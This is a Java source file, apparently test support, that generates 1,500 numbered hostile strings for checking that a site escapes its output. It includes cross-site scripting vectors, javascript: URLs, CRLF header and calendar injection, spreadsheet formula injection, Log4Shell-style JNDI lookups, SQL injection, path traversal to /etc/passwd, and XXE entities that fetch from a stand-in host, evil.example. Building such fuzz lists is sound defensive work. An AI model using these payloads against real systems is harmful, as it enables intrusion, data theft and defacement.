package io.tocsin.site;

import java.util.ArrayList;
import java.util.LinkedHashSet;
import java.util.List;
import java.util.Set;

/**
 * Fifteen hundred texts that mean harm: to pages, scripts, styles, addresses, feeds, tables,
 * calendars and headers. The same ones each time.
 *
 * <p>What would run calls {@code hit()}; what would be fetched lies on {@code evil.example}. Each
 * ends in a number of its own, so that one can see where it went and whether it is whole.
 */
public final class HostileStrings {

  /** How many there are. */
  public static final int ALL = 1_500;

  private static final String[] BREAKS = {
    "",
    "\"",
    "'",
    "\">",
    "'>",
    "`",
    "-->",
    "--!>",
    "]]>",
    "*/",
    "\\\";",
    "';",
    "\"}]}",
    "</title>",
    "</style>",
    "</script>",
    "</textarea>",
    "</template>",
    "</noscript>",
    "</svg></math>"
  };

  private static final String[] PAYLOADS = {
    "<script>hit()</script>",
    "<ScRiPt >hit()</sCrIpT >",
    "<script/x>hit()</script>",
    "<script src=//evil.example/a.js></script>",
    "<script type=module>import('https://evil.example/m.js')</script>",
    "<img src=x onerror=hit()>",
    "<img/src='x'/onerror='hit()'//",
    "<img src=https://evil.example/p.png>",
    "<svg onload=hit()>",
    "<svg/onload=hit()//",
    "<svg><script>hit()</script></svg>",
    "<svg><animate onbegin=hit() attributeName=x></svg>",
    "<svg><a><animate attributeName=href values=javascript:hit() /><text>a</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg/>#x'/></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.hit()</script>'></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=hit()></style></table></math>",
    "<math href=javascript:hit()>a</math>",
    "<math><annotation-xml encoding=text/html><img src=x onerror=hit()></annotation-xml></math>",
    "<noscript><p title=\"</noscript><img src=x onerror=hit()>\"></noscript>",
    "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=hit()>",
    "<iframe src=javascript:hit()></iframe>",
    "<iframe srcdoc='<img src=x onerror=parent.hit()>'></iframe>",
    "<iframe src=https://evil.example/></iframe>",
    "<object data=javascript:hit()></object>",
    "<embed src=https://evil.example/e.svg>",
    "<a href=javascript:hit() id=click>a</a>",
    "<form action=https://evil.example/><button>a</button></form>",
    "<button formaction=javascript:hit()>a</button>",
    "<input autofocus onfocus=hit()>",
    "<details open ontoggle=hit()><summary>a</summary></details>",
    "<video><source onerror=hit()></video>",
    "<audio src onerror=hit()>",
    "<body onload=hit()>",
    "<marquee onstart=hit()>a</marquee>",
    "<style>@import 'https://evil.example/a.css';</style>",
    "<style>@keyframes x{}b{animation:x}</style><b onanimationstart=hit()>b</b>",
    "<link rel=stylesheet href=https://evil.example/a.css>",
    "<link rel=prefetch href=https://evil.example/a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=javascript:hit()'>",
    "<meta http-equiv=content-security-policy content='script-src *'>",
    "<base href=https://evil.example/>",
    "<template><script>hit()</script></template>",
    "<x contenteditable autofocus onfocus=hit()>a</x>",
    "&lt;script&gt;hit()&lt;/script&gt;",
    "&#60;img src=x onerror=hit()&#62;",
    "<!--><img src=x onerror=hit()>",
    "<![CDATA[<img src=x onerror=hit()>]]>",
    "<?xml-stylesheet href='https://evil.example/a.xsl'?>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'https://evil.example/e'>]>&e;",
  };

  private static final String[] HANDLERS =
      ("abort animationend animationiteration animationstart auxclick beforecopy beforecut"
              + " beforeinput beforematch beforetoggle blur cancel canplay change click close"
              + " contextmenu copy cuechange cut dblclick drag dragend dragenter dragover drop"
              + " durationchange ended error focus focusin focusout formdata fullscreenchange"
              + " gotpointercapture hashchange input invalid keydown keypress keyup load loadeddata"
              + " loadstart lostpointercapture message mousedown mouseenter mousemove mouseout"
              + " mouseover mouseup pagehide pageshow paste pause play playing pointerdown"
              + " pointermove pointerover popstate progress ratechange reset resize scroll"
              + " scrollend search securitypolicyviolation seeked select selectionchange selectstart"
              + " slotchange stalled submit suspend timeupdate toggle touchstart transitionend"
              + " transitionrun unhandledrejection unload volumechange waiting wheel")
          .split(" ");

  private static final String[] ADDRESSES = {
    "javascript:hit()//",
    "JaVaScRiPt:hit()//",
    "java\tscript:hit()//",
    "java\nscript:hit()//",
    " javascript:hit()//",
    "javascript&colon;hit()//",
    "javascript&#58;hit()//",
    "\u0001javascript:hit()//",
    "javascript\u0000:hit()//",
    "feed:javascript:hit()//",
    "view-source:javascript:hit()//",
    "vbscript:hit()//",
    "livescript:hit()//",
    "data:text/html,<script>hit()</script>",
    "data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='hit()'/>",
    "blob:https://evil.example/a",
    "filesystem:https://evil.example/a",
    "file:///etc/passwd",
    "//evil.example/a",
    "\\\\evil.example\\a",
    "https:evil.example",
    "https://evil.example@a.example/",
    "https://a.example\"onmouseover=hit()//",
    "https://a.example/'onmouseover=hit()//",
    "https://a.example/<script>hit()</script>",
    "https://[::1]\"><img src=x onerror=hit()>",
    "mailto:a@b.example?bcc=c@evil.example&body=%0d%0ahit",
    "tel:+33;ext=<b>",
    "about:srcdoc",
    "ws://evil.example/",
    "intent://evil.example#Intent;end",
  };

  private static final String[] LINES = {
    "\r\nBcc: all@evil.example\r\n\r\nhit",
    "\nSet-Cookie: a=b",
    "\r\n\r\n<script>hit()</script>",
    "\u2028Subject: hit",
    "\u0085X-A: b",
    "=?utf-8?q?=0D=0ABcc:_a@evil.example?=",
    "\r\nEND:VEVENT\r\nBEGIN:VALARM\r\nACTION:AUDIO\r\nATTACH:https://evil.example/a.wav",
    "\nATTENDEE:mailto:a@evil.example",
    ";X-A=\"b\":c",
    "\\;\\,\\n\\N\\\\",
    "=HYPERLINK(\"https://evil.example/\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\",=1+1,\"",
    "\n# EOF\n",
    "\"} 1\ntocsin_forged{a=\"b\"} 2\n",
    "\nevent: generation\ndata: {}\n\n",
  };

  private static final String[] MODELS = {
    "${hit()}",
    "#{hit()}",
    "{{hit()}}",
    "{{constructor.constructor('hit()')()}}",
    "<%= hit() %>",
    "@{hit()}",
    "$unsafe{hit()}",
    "@if(true)hit@endif",
    "!{hit();}",
    "{since}",
    "{next}",
    "{0}",
    "{x, plural, other{#}}",
    "%s%n%d%1$s",
    "${jndi:ldap://evil.example/a}",
    "${env:PATH}",
    "#set($a=1)",
    "[[hit]]",
    "__proto__",
    "constructor",
    "toString",
    "' OR '1'='1",
    "'; DROP TABLE incident; --",
    "../../etc/passwd",
    "..\\..\\windows",
    "[a](javascript:hit())",
    "![a](https://evil.example/p.png)",
    "<https://evil.example/>",
    "**a** _b_ `c`",
    "| a | b |",
    "# Title",
    "> said",
    "* item",
  };

  private static final String[] STYLES = {
    "color:red;background:url(https://evil.example/a)",
    "expression(hit())",
    "behavior:url(https://evil.example/a.htc)",
    "-moz-binding:url(https://evil.example/a.xml#x)",
    "}*{display:none}",
    "</style><script>hit()</script>",
    "\\3c script>hit()",
    "/*",
    "@charset \"x\";",
    "width:calc(1px*1e99)",
    "position:fixed;inset:0;z-index:9999",
    "url('javascript:hit()')",
    "--link:red",
    "content:\"\\",
    "animation:x 1s",
    "font-face{src:url(https://evil.example/f)}",
  };

  private static final String[] UNSEEN = {
    "\u202eevil.example/gpj.exe\u202c",
    "\u2066a\u2067b\u2069",
    "\u200e\u200f\u061c",
    "a\u0000b",
    "<scr\u0000ipt>hit()</scr\u0000ipt>",
    "\ufeff<script>hit()</script>",
    "\ud83d\udc69\u200d\ud83d\udcbb",
    "\udb40\udc68\udb40\udc69\udb40\udc74",
    "a\u0300\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308",
    "\uff1cscript\uff1ehit()\uff1c/script\uff1e",
    "\u2039script\u203ahit()",
    "\u00bcscript\u00behit()",
    "\u0007\u001b[31mred\u001b[0m",
    "\u009b31m",
    "\u00a0\u2003\u3000",
    "\u00ad\u200b\u2060",
    "\u0430dmin",
    "\u212a\u017f\u0131\u0130",
    "\uffff\ufffe",
    "\u00c0\u00bcscript\u00c0\u00be",
  };

  private HostileStrings() {}

  /** Returns them all, each once. */
  public static List<String> all() {
    Set<String> all = new LinkedHashSet<>();
    for (String broken : BREAKS) {
      add(all, List.of(PAYLOADS), broken, "");
    }
    for (String handler : HANDLERS) {
      all.add("<x on" + handler + "=hit() tabindex=1>a</x>");
      all.add("\" on" + handler + "=\"hit()\" x=\"");
    }
    for (String[] more : List.of(ADDRESSES, LINES, MODELS, STYLES, UNSEEN)) {
      add(all, List.of(more), "", "");
      add(all, List.of(more), "a ", " z");
    }
    all.add("a".repeat(3_000));
    all.add("<b>".repeat(1_000));
    add(all, List.of(STYLES), "\" style=\"", "\" x=\"");
    add(all, List.of(ADDRESSES), "<a href=\"", "\">a</a>");
    add(all, List.of(LINES), "</p>", "<p>");
    add(all, List.of(MODELS), "<b>", "</b>");
    add(all, List.of(UNSEEN), "<script>\"", "\"</script>");
    List<String> numbered = new ArrayList<>();
    for (String one : List.copyOf(all).subList(0, ALL)) {
      numbered.add(one + " h%04d.".formatted(numbered.size()));
    }
    return List.copyOf(numbered);
  }

  private static void add(Set<String> all, List<String> texts, String before, String after) {
    texts.forEach(text -> all.add(before + text + after));
  }
}
